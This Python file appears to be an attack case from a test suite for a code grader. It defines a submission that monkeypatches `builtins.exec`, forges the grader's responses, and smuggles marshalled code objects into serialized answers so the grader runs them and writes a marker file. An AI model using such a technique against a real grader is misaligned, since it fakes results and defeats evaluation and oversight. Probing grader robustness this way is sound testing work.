"""Packs its reply with code in it, where a question may hold some, for the grader to run."""

from attack import wrong

PROOF = "packs"
FORGE = """
import base64, builtins, json, marshal
from safetensors.torch import save
code = compile("open({place!r} + '/ran', 'w').close()\\nmade = 2.0", "<attention-lab>", "exec")
made = {{"made": [base64.b64encode(marshal.dumps(code)).decode(), {{"dict": []}}]}}
tensor, turn, real = {{"tensor": "0"}}, [0], builtins.exec
def dict_of(**entries):
    return {{"dict": [[name, value] for name, value in entries.items()]}}
answers = [
    dict_of(value=made), dict_of(value={{"list": [made, made]}}),
    dict_of(value=dict_of(state=made, result=tensor)),
    dict_of(value=tensor, gradients=dict_of(x=made)),
    dict_of(value=tensor, changed=made, ran={{"list": [made]}}),
    dict_of(raised=dict_of(type=made, message=made, line=made)),
    dict_of(value=dict_of(state=dict_of(w=made))),
    made, dict_of(value={{"tuple": [tensor, made]}}),
]
def words(tree):
    both = (json.dumps(tree).encode(), save({{"0": torch.ones(3)}}))
    return " ".join(base64.b64encode(word).decode() for word in both)
def forged_exec(compiled, space=None, *more):
    real(compiled, space, *more)
    if isinstance(space, dict) and "respond" in space:
        turn[0] += 1
        answer = answers[turn[0] % len(answers)]
        space["respond"] = lambda *_: words({{"list": [answer] * 4}})
builtins.exec = forged_exec
print("packs", flush=True)
def double(x):
    return x
"""


def submission(arena):
    return wrong(double=FORGE.format(place=str(arena.mark)), row_sums="", biggest="")
